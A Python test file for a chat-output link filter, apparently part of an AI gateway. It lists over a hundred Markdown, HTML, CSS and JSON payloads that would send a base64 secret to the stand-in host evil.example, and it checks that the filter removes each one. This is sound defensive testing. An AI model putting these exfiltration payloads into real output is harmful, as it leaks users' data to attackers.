"""Ways in which a text leads a browser, a Markdown renderer or a tool elsewhere, and texts that lead nowhere."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from html.parser import HTMLParser

import ada_url
import pytest
from markdown_it import MarkdownIt

from stockade.gateway.output.candidates import Judge, interesting
from stockade.gateway.output.text import IN_LINK, TextFilter
from stockade.policy.uris.allowed import compile_allowed

ALLOWED = ("good.example", "*.cdn.good.example", "192.0.2.0/24")
SECRET = "c2VjcmV0"

# Forms of exfiltration: Markdown and HTML constructs, spellings of a URI. `evil.example` must not be reachable from what is left, nor the secret
# be in any URI that is left.
LEADING_AWAY = [
    # Markdown
    "![logo](https://evil.example/c2VjcmV0.png)",
    "![](https://evil.example/?q=c2VjcmV0)",
    '![a](https://evil.example/?q=c2VjcmV0 "title")',
    "![a](<https://evil.example/?q=c2VjcmV0>)",
    "![a]( https://evil.example/?q=c2VjcmV0 )",
    "![a](\nhttps://evil.example/?q=c2VjcmV0)",
    "[click](https://evil.example/c2VjcmV0)",
    "[click](HTTPS://EVIL.EXAMPLE/c2VjcmV0)",
    "[click](//evil.example/c2VjcmV0)",
    "[click](/\\evil.example/c2VjcmV0)",
    "[click](\\\\\\\\evil.example/c2VjcmV0)",
    "[click](https:/evil.example/c2VjcmV0)",
    "[click](https:evil.example/c2VjcmV0)",
    "[click](https:\\\\evil.example/c2VjcmV0)",
    "[click](https\\://evil.example/c2VjcmV0)",
    "[click](https:\\/\\/evil.example/c2VjcmV0)",
    "[click](https&colon;//evil.example/c2VjcmV0)",
    "[click](https&#58;&#47;&#47;evil.example/c2VjcmV0)",
    "[click](https&#x3a;&sol;&sol;evil.example/c2VjcmV0)",
    "[click](&#104;ttps://evil.example/c2VjcmV0)",
    "[click](https://evil&#46;example/c2VjcmV0)",
    "[click](https://evil&period;example/c2VjcmV0)",
    "[click](https://%65vil.example/c2VjcmV0)",
    "[click](https://evil\\.example/c2VjcmV0)",
    "[click][r]\n\n[r]: https://evil.example/c2VjcmV0",
    "![click][r]\n\n[r]: <https://evil.example/c2VjcmV0> 'title'",
    "[r]\n\n[r]:\n  https://evil.example/c2VjcmV0\n",
    "[r][]\n\n[r]: //evil.example/c2VjcmV0",
    "<https://evil.example/c2VjcmV0>",
    "<HTTPS://evil.example/c2VjcmV0>",
    "<ftp://evil.example/c2VjcmV0>",
    "<mailto:thief@evil.example?body=c2VjcmV0>",
    "https://evil.example/c2VjcmV0",
    "**https://evil.example/c2VjcmV0**",
    "(see https://evil.example/c2VjcmV0)",
    "|a|https://evil.example/c2VjcmV0|",
    "www.evil.example/c2VjcmV0",
    "[![img](https://evil.example/c2VjcmV0.png)](https://good.example/)",
    "[![img](https://good.example/a.png)](https://evil.example/c2VjcmV0)",
    "[https://good.example](https://evil.example/c2VjcmV0)",
    "[a](https://good.example),[b](https://evil.example/c2VjcmV0)",
    "> - ![a](https://evil.example/c2VjcmV0)",
    "`code` then ![a](https://evil.example/c2VjcmV0)",
    "<!-- --> ![a](https://evil.example/c2VjcmV0)",
    # the host is another than it seems
    "[a](https://good.example@evil.example/c2VjcmV0)",
    "[a](https://good.example:x@evil.example/c2VjcmV0)",
    "[a](<https://good.example)@evil.example/c2VjcmV0>)",
    "https://good.example)@evil.example/c2VjcmV0",
    "[a](https://good.example\\@evil.example/c2VjcmV0)",
    "[a](https://good.example%2f@evil.example/c2VjcmV0)",
    "[a](https://good.example&sol;@evil.example/c2VjcmV0)",
    "[a](https://good.example.evil.example/c2VjcmV0)",
    "[a](https://good.example\u3002evil.example/c2VjcmV0)",
    "[a](https://ev\u00adil.example/c2VjcmV0)",
    "[a](https://ev\u200bil.example/c2VjcmV0)",
    "[a](https://\uff45vil.example/c2VjcmV0)",
    "[a](https://evil.example./c2VjcmV0)",
    "[a](https://evil.example:443/c2VjcmV0)",
    "[a](https:///evil.example/c2VjcmV0)",
    "[a](https://good.example/go?u=https://evil.example/c2VjcmV0)",
    "[a](https://good.example/go?u=https%3A%2F%2Fevil.example%2Fc2VjcmV0)",
    "[a](http://3232235777/c2VjcmV0)",
    "[a](http://0xc0a80101/c2VjcmV0)",
    "[a](http://[::ffff:192.168.1.1]/c2VjcmV0)",
    "[a](//3232235777/c2VjcmV0)",
    # HTML
    '<img src="https://evil.example/c2VjcmV0">',
    "<img src='https://evil.example/c2VjcmV0'>",
    "<img src=https://evil.example/c2VjcmV0>",
    '<img src="//evil.example/c2VjcmV0">',
    '<img src=" //evil.example/c2VjcmV0">',
    '<img src="\n\thttps://evil.example/c2VjcmV0">',
    '<img src="ht\ntps://evil.example/c2VjcmV0">',
    '<img src="https:/\n/evil.example/c2VjcmV0">',
    '<img src="/\t/evil.example/c2VjcmV0">',
    '<img src="\\/evil.example/c2VjcmV0">',
    '<img src="&#104;&#116;tps:&#x2f;&#x2f;evil.example/c2VjcmV0">',
    '<img src="https&#58//evil.example/c2VjcmV0">',
    '<img src="https://good.example\n.evil.example/c2VjcmV0">',
    '<img src="https://good.example&NewLine;.evil.example/c2VjcmV0">',
    '<img srcset="https://good.example/a 1x, https://evil.example/c2VjcmV0 2x">',
    '<img srcset="//good.example/a 1x, //evil.example/c2VjcmV0 2x">',
    '<video poster="https://evil.example/c2VjcmV0"></video>',
    '<a href="https://evil.example/c2VjcmV0">x</a>',
    '<A HREF = "https://evil.example/c2VjcmV0">x</A>',
    '<a href="javascript:fetch(1)">x</a>',
    '<a ping="https://evil.example/c2VjcmV0" href="#">x</a>',
    '<form action="https://evil.example/c2VjcmV0"><input></form>',
    '<button formaction="//evil.example/c2VjcmV0">x</button>',
    '<object data="https://evil.example/c2VjcmV0"></object>',
    '<base href="https://evil.example/c2VjcmV0/">',
    '<link rel="stylesheet" href="https://evil.example/c2VjcmV0">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/c2VjcmV0">',
    '<meta http-equiv="refresh" content="0; URL=\'//evil.example/c2VjcmV0\'">',
    '<div style="background:url(https://evil.example/c2VjcmV0)">x</div>',
    "<div style=\"background:url('//evil.example/c2VjcmV0')\">x</div>",
    "<style>@import 'https://evil.example/c2VjcmV0';</style>",
    '<style>p{background:url("\\68ttps\\3a//evil.example/c2VjcmV0")}</style>',
    '<svg><image xlink:href="https://evil.example/c2VjcmV0"/></svg>',
    '<iframe src="https://evil.example/c2VjcmV0"></iframe>',
    '<iframe srcdoc="&lt;img src=&quot;https://evil.example/c2VjcmV0&quot;&gt;"></iframe>',
    "<script src=//evil.example/c2VjcmV0></script>",
    '<img src="view-source:https://evil.example/c2VjcmV0">',
    # what other programs open
    "file://evil.example/share/c2VjcmV0",
    "\\\\evil.example\\share\\c2VjcmV0",
    "wss://evil.example/c2VjcmV0",
    "vscode://evil.example/c2VjcmV0",
    "xhttps://evil.example/c2VjcmV0",
    "ms-word:ofe|u|https://evil.example/c2VjcmV0",
]

# A JSON text, as a tool call's arguments are.
ARGUMENTS = [
    r'{"url":"https://evil.example/c2VjcmV0"}',
    r'{"url":"https:\/\/evil.example\/c2VjcmV0"}',
    r'{"url":"\u0068ttps:\/\/evil.example\/c2VjcmV0"}',
    r'{"url":"https\u003a\u002f\u002fevil.example/c2VjcmV0"}',
    r'{"url":"https:\u002F/evil\u002eexample/c2VjcmV0"}',
    r'{"url":"ht\ntps://evil.example/c2VjcmV0"}',
    r'{"url":"https://good.example\n.evil.example/c2VjcmV0"}',
    r'{"text":"look:\nhttps://evil.example/c2VjcmV0\nend"}',
    r'{"html":"<img src=\"//evil.example/c2VjcmV0\">"}',
    r'{"md":"![a](https://evil.example/c2VjcmV0)"}',
    r'{"say":"\"https://evil.example/c2VjcmV0\""}',
    r'{"say":"\\\"https://evil.example/c2VjcmV0\\\""}',
]

HARMLESS = [
    "Hello, how are you? I'm fine; 50% of R&D and/or more: yes.",
    "See https://good.example/docs?a=b&c=d#e, and (https://good.example).",
    "[a](https://good.example/x_(y)) and ![b](https://img.cdn.good.example/a.png 'x')",
    "<https://good.example/> and [r]: https://good.example/r\n",
    '<a href="https://good.example/">x</a><img src="//good.example/a.png">',
    "Go to good.example/docs or www.cdn.good.example.",
    "http://192.0.2.7/ and //192.0.2.7/x",
    "The https:// prefix, https://..., http: and ftp mean something.",
    "Ports: http:8080, ws: none. data: [1, 2]; file: a.txt; javascript: a language.",
    "a // comment\n//comment\nx = y // 2; total//count; a//b.c",
    "`import os.path` Node.js/Express src/app.py README.md e.g. i.e. 1.5/2 TCP/IP",
    "$$ x \\\\ y \\frac{a}{b} \\nabla \\beta $$ C:\\Users\\me C:\\\\Users\\\\me",
    "data:image/png;base64,iVBORw0KGgo//8/AAAA==",
    "# heading\n\n| a | b |\n|---|---|\n| 1/2 | c? |\n",
    'f"https://{host}/path" and regex ^/a/b$ and /* c */',
    "mail me at someone@elsewhere.example",
    "\u8bf7\u770b https://good.example/a\u3002\u8fd9\u662f",
    "What? #1 & #2? Is it evil.example? Yes.",
    "R&amp;D &lt;b&gt; &nbsp; &copy; &#169;",
]


def filtered(text: str) -> tuple[str, list[str]]:
    hosts: list[str] = []
    return TextFilter(Judge(compile_allowed(ALLOWED)), hosts.append).whole(text), hosts


class _Attributes(HTMLParser):
    def __init__(self, text: str) -> None:
        super().__init__()
        self.values: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.values += [value for _, value in attrs if value]


def destinations(text: str) -> Iterator[str]:
    """Yield where the text leads, read as a chat window reads it: Markdown with HTML in it and names turned into links."""
    rendered = MarkdownIt("commonmark", {"html": True}).render(text)
    for value in _Attributes(rendered).values + _Attributes(text).values:
        for part in [value, *re.split(r"[\s,]+|url\(['\"]?|url=['\"]?", value)]:
            try:
                yield ada_url.URL(part, base="https://chat.example/").hostname
            except ValueError:
                continue
    # Plain text: what any linkifier would take.
    for part in re.findall(r"(?:[a-z]+:)?[/\\]{2}[^\s<>\"')]+", text, re.IGNORECASE):
        try:
            yield ada_url.URL(part, base="https://chat.example/").hostname
        except ValueError:
            continue


@pytest.mark.parametrize("text", LEADING_AWAY)
def test_no_way_out_is_left(text: str) -> None:
    passed, hosts = filtered(text)
    assert len(hosts) >= 1
    assert SECRET not in passed
    for host in destinations(passed):
        assert host in {"", "chat.example", "good.example"}, (host, passed)


def test_there_are_enough_of_them() -> None:
    assert len(set(LEADING_AWAY + ARGUMENTS)) >= 110


@pytest.mark.parametrize("text", ARGUMENTS)
def test_arguments_stay_json_and_lose_the_uri(text: str) -> None:
    passed, hosts = filtered(text)
    assert hosts
    assert SECRET not in passed
    assert json.loads(passed).keys() == json.loads(text).keys()


@pytest.mark.parametrize("text", HARMLESS)
def test_harmless_text_is_the_same_object(text: str) -> None:
    passed, hosts = filtered(text)
    assert passed is text
    assert hosts == []


@pytest.mark.parametrize(
    "text", ["https://evil.example/x", "[a](https://evil.example/x)", '<a href="https://evil.example/x">a</a>']
)
def test_host_is_told_but_never_what_follows_it(text: str) -> None:
    assert filtered(text)[1] == ["evil.example"]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("a https://evil.example/x. B", "a [link removed: host not allowed]. B"),
        ("[a](https://evil.example/x) b", f"[a]({IN_LINK}) b"),
        ("**https://evil.example/x**", "**[link removed: host not allowed]**"),
        ("[r]: https://evil.example\nb", f"[r]: {IN_LINK}\nb"),
        ("[https://evil.example/](https://evil.example/)", f"[[link removed: host not allowed]]({IN_LINK})"),
        ("evil.com/x?y", "evil.com[link removed: host not allowed]"),
        ("[a](evil.com/x?y)", "[a](evil.com#link-removed)"),
        (
            "https://good.example/?u=https://evil.example/x y",
            "https://good.example/?u=[link removed: host not allowed] y",
        ),
        ("https://evil.example/x_(y)_z) a", "[link removed: host not allowed]) a"),
    ],
)
def test_what_stands_in_its_place(text: str, expected: str) -> None:
    assert filtered(text)[0] == expected


@pytest.mark.parametrize("text", ["h", "see http", "www", "x:/", "a\\", "50%", "a?", "https:", "(mailto", "WWW.a"])
def test_what_may_begin_a_uri_is_interesting(text: str) -> None:
    assert interesting(text)


@pytest.mark.parametrize("text", ["Hello", " world.", "Here:", "who", "", "1.5", "what!"])
def test_prose_is_not(text: str) -> None:
    assert not interesting(text)
